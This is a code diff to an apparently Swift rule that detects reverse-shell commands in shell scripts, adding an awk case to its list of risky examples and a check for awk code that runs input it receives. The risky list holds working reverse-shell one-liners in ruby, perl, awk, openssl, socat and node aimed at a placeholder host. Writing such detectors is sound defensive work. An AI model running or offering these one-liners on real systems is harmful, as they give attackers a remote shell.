@@ -20,6 +20,7 @@ extension RiskRule {
       "ruby -rsocket -e 'exec \"sh\" if TCPSocket.new(\"h\",80)'",
       "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
       "awk 'BEGIN{s=\"/inet/tcp/0/h/80\"; \"sh\" |& getline}'",
+      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\";while((s|&getline c)>0)while((c|getline)>0)print|&s}'",
       "openssl s_client -connect h:80 | ‹sh›", "sh -i 2>&1 | ‹openssl s_client -connect h:80›",
       "socat exec:bash,pty tcp:h:80",
       "node -e 'require(\"net\").connect(80,\"h\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'",
@@ -27,7 +28,8 @@ extension RiskRule {
     ],
     harmless: [
       "nc -l 80", "nc -zv h 22", "socat - TCP:h:80", "openssl s_client -connect h:443", "python3 -c 'import socket'",
-      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "awk '{print}' f", "php -r 'echo 1;'", "nc h 80 < f",
+      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "awk '{print}' f",
+      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\";s|&getline;print}'", "php -r 'echo 1;'", "nc h 80 < f",
     ]
   ) { script in
     script.invocations.compactMap { invocation in
@@ -55,6 +57,7 @@ extension RiskRule {
         ?? (name.hasSuffix("awk") ? invocation.operands.first?.text : nil),
       interpreters.contains(name) || name.hasSuffix("awk")
     else { return false }
+    if name.hasSuffix("awk"), CodeText.runsWhatComesIn(code) { return true }
     return CodeText.connectsAndRuns(code + (invocation.has("-rsocket") ? " socket" : ""))
   }
 
